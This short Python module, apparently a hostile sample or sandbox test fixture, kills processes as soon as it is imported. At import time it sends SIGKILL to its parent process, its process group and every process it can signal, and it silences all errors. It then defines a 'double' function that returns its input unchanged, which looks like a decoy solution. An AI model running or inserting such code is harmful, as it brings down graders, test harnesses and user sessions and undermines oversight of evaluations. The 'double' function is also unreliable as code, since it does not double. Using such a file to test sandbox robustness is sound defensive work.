"""Sends SIGKILL to its parent, its process group and every process it may signal."""

import os
import signal

for target in (os.getppid(), 0, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(0), signal.SIGKILL)
except OSError:
    pass


def double(x):
    return x
